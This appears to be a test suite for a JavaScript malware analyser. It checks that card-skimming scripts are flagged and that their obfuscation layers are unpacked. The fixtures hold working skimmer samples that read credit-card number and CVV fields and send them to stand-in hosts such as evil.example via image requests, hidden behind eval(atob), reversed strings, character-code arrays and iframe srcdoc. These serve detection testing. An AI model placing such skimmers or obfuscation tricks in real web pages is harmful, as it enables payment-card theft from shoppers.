import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { analyzeSource, inspectSource } from '../../src/analyze/pipeline.ts';
import { defaultModel } from '../../src/analyze/score/default-model.ts';
import { parseScript } from '../../src/analyze/parse.ts';
import { collectFacts } from '../../src/analyze/dataflow/facts.ts';
import { inlinePureHelpers } from '../../src/analyze/dataflow/inline-helpers.ts';

const skimmer = `document.querySelector("#place-order").addEventListener("click", function () {
  var card = document.getElementById("cc_number").value + "|" + document.getElementById("cc_cid").value;
  new Image().src = "https://g00gle-analytics.example/c.gif?d=" + btoa(card);
});`;

describe('pipeline', () => {
  test('a plain skimmer is malicious, with evidence naming line, source, sink and destination', () => {
    const result = analyzeSource(skimmer, { model: defaultModel });
    assert.ok(result.score < 50, `score ${result.score}`);
    assert.ok(result.scores.magecart <= result.scores.malware);
    const flow = result.evidence.find((item) => item.kind === 'flow');
    assert.ok(flow);
    assert.equal(flow.line, 3);
    assert.match(flow.message, /#cc_number|#cc_cid/);
    assert.match(flow.message, /Image\.src/);
    assert.match(flow.message, /g00gle-analytics\.example/);
  });

  test('a payload hidden in eval(atob(...)) is unpacked and its evidence points at the eval line', () => {
    const wrapped = `var a = 1;\neval(atob("${Buffer.from(skimmer).toString('base64')}"));`;
    const result = analyzeSource(wrapped, { model: defaultModel });
    assert.equal(result.decodedLayers, 1);
    const flow = result.evidence.find((item) => item.kind === 'flow');
    assert.ok(flow);
    assert.equal(flow.line, 2);
    assert.equal(flow.layer, 1);
    assert.match(flow.snippet ?? '', /new Image\(\)\.src/);
    assert.ok(result.score < 50);
  });

  test('nested layers stop at the depth limit instead of recursing forever', () => {
    let code = 'fetch("https://e.example/" + document.getElementById("cvv").value);';
    for (let i = 0; i < 14; i++) code = `eval(${JSON.stringify(code)});`;
    const result = inspectSource(code);
    assert.equal(result.truncated, true);
    assert.ok(result.decodedLayers <= 10);
  });

  test('a truncated script is still analysed from what the tolerant parser recovers', () => {
    const broken = `${skimmer}\nfunction tail() { var x = {`;
    const result = analyzeSource(broken, { model: defaultModel });
    assert.equal(result.strict, false);
    assert.ok(result.parseError);
    assert.ok(result.evidence.some((item) => item.kind === 'flow'));
  });

  test('ordinary form code that posts to its own origin scores benign', () => {
    const code = `document.querySelector("form").addEventListener("submit", function (e) {
      if (!document.getElementById("email").value) { e.preventDefault(); alert("Email required"); }
    });`;
    const result = analyzeSource(code, { model: defaultModel });
    assert.ok(result.score >= 50, `score ${result.score}`);
  });

  test('scores are integers from 1 to 99 for every class', () => {
    for (const code of [skimmer, '', 'var x = 1;', 'while(true){}']) {
      const result = analyzeSource(code, { model: defaultModel });
      for (const value of [result.score, ...Object.values(result.scores)]) {
        assert.ok(Number.isInteger(value) && value >= 1 && value <= 99, String(value));
      }
    }
  });

  test('nesting deeper than the stack is a coded error, not a crash', () => {
    const deep = `y = ${Array.from({ length: 50_000 }, (_, i) => `a${i}`).join(' + ')};`;
    assert.throws(() => inspectSource(deep), (error: { code?: string }) => error.code === 'SG_TOO_LARGE');
  });
});

describe('pure helper inlining', () => {
  test('names routed through a string-reversing helper are recovered and the flow is found', () => {
    const code = `(function (w, d) {
      var r = function (s) { return s.split("").reverse().join(""); };
      if (!new RegExp(r("tuokcehc")).test(w[r("noitacol")][r("ferh")])) return;
      d.addEventListener("click", function () {
        var v = d[r("dIyBtnemelEteg")](r("rebmun_cc"))[r("eulav")];
        new w[r("egamI")]().src = r("=d?fig.p/elpmaxe.live//:sptth") + btoa(v);
      });
    })(window, document);`;
    const result = inspectSource(code);
    assert.ok((result.transforms['inline-pure-helpers'] ?? 0) >= 7, JSON.stringify(result.transforms));
    const flow = result.evidence.find((item) => item.kind === 'flow');
    assert.ok(flow, JSON.stringify(result.evidence));
    assert.match(flow.message, /value of #cc_number reaches Image\.src to https:\/\/evil\.example/);
    assert.ok(result.evidence.some((item) => item.detector === 'checkout-gating'));
  });

  // The second facts walk is only paid for when an inlined constant can change what the analysis sees.
  const rewalkCases: [string, string, boolean][] = [
    ['an error message built by a helper', 'function m(c) { return "Minified error #" + c; } throw new Error(m(12));', false],
    ['a harmless option key', 'var o = {}; function k(s) { return "ui_" + s; } o[k("theme")] = 1;', false],
    ['a revealed API name as a key', 'function r(s) { return s.split("").reverse().join(""); } var v = el[r("eulav")];', true],
    ['a constant folded with its neighbours', 'function r(s) { return s.split("").reverse().join(""); } var u = "https://a.example/" + r("cba");', true],
    ['a constant handed to a decoder', 'function h(s) { return s + "="; } var code = atob(h("ZXZhbCgxKQ="));', true],
  ];
  for (const [name, code, expected] of rewalkCases) {
    test(`second walk after inlining: ${name} → ${expected}`, () => {
      const facts = collectFacts(parseScript(code).program);
      const result = inlinePureHelpers(facts);
      assert.ok(result.count > 0, 'something was inlined');
      assert.equal(result.needsRewalk, expected);
    });
  }

  test('helpers with side effects or free variables are not inlined', () => {
    const code = 'var n = 0; function f(s) { return s + n; } function g(s) { n++; return s; } x = f("a"); y = g("b");';
    assert.equal(inspectSource(code).transforms['inline-pure-helpers'], undefined);
  });
});

describe('payload unpacking', () => {
  const payload = Buffer.from(skimmer).toString('base64');
  const wrappers: [string, string][] = [
    ['Function reached through a constructor', `var c = "constructor", f = "filter"; [][f][c](atob("${payload}"))();`],
    ['atob held in a variable with a fallback', `var dec = window.nope || window.atob; var p = "${payload}"; eval(dec(p));`],
    ['String.fromCharCode over a constant array', `var codes = [${[...skimmer].map((ch) => ch.charCodeAt(0)).join(',')}]; setTimeout(String.fromCharCode.apply(null, codes), 0);`],
    ['window alias in an IIFE', `(function (w) { w.eval(w.atob("${payload}")); })(window);`],
  ];
  for (const [name, code] of wrappers) {
    test(name, () => {
      const result = inspectSource(code);
      assert.equal(result.decodedLayers, 1, JSON.stringify(result.transforms));
      assert.ok(result.evidence.some((item) => item.kind === 'flow' && item.layer === 1));
    });
  }
});

describe('detector visitors by name', () => {
  const seen = (visitors: Record<string, (node: { start: number }) => void>, code: string): void => {
    const probe = { meta: { id: 'probe', classes: ['malware'] as const, severity: 'low' as const, description: 'test probe' }, create: () => visitors };
    inspectSource(code, [probe]);
  };

  test("'CallExpression:remove' sees calls of remove, through any receiver or parentheses, and nothing else", () => {
    const code = 'a.remove(); b.c.remove(1); (0, d.remove)(); remove(); a.removeChild(x); a["remove"](); e.add();';
    const starts: number[] = [];
    seen({ 'CallExpression:remove': (node) => { starts.push(node.start); } }, code);
    const expected = [...code.matchAll(/a\.remove\(\)|b\.c\.remove|\(0, d\.remove\)\(\)|(?<![.\w])remove\(\)|a\["remove"\]/g)].map((match) => match.index);
    assert.deepEqual(starts.sort((x, y) => x - y), expected);
  });

  test('assignments dispatch on the assigned name, members on the property', () => {
    const code = 'img.src = u; x = document.cookie; src = 1; img.href = u;';
    const names: string[] = [];
    seen({
      'AssignmentExpression:src': (node) => { names.push(`assign@${node.start}`); },
      'MemberExpression:cookie': (node) => { names.push(`member@${node.start}`); },
    }, code);
    // every assignment to a `src` (member or variable) in source order, then the one `cookie` read
    assert.deepEqual(names, [`assign@0`, `assign@${code.indexOf('src = 1')}`, `member@${code.indexOf('document.cookie')}`]);
  });

  test('a name on a type that is not dispatched by name is a programming error', () => {
    assert.throws(() => seen({ 'Literal:x': () => {} }, 'x'), /cannot be visited by name/);
  });
});

describe('scripts inside iframe srcdoc markup', () => {
  for (const [how, code] of [
    ['assigned', `var f = document.createElement('iframe'); f.srcdoc = '<p>hi</p><script>new Image().src = "https://c.example/?" + parent.document.getElementById("cc").value</script>';`],
    ['set as an attribute', `var f = document.createElement('iframe'); f.setAttribute('srcdoc', '<script>new Image().src = "https://c.example/?" + parent.document.getElementById("cc").value</script>');`],
  ]) {
    test(`are analysed as a decoded layer when the markup is ${how}`, () => {
      const result = inspectSource(code as string);
      assert.equal(result.decodedLayers, 1);
      assert.ok(result.evidence.some((item) => item.layer === 1 && item.detector === 'form-data-exfiltration'));
    });
  }
  test('markup without scripts adds no layer', () => {
    assert.equal(inspectSource(`f.srcdoc = '<p>Loading…</p>';`).decodedLayers, 0);
  });
});
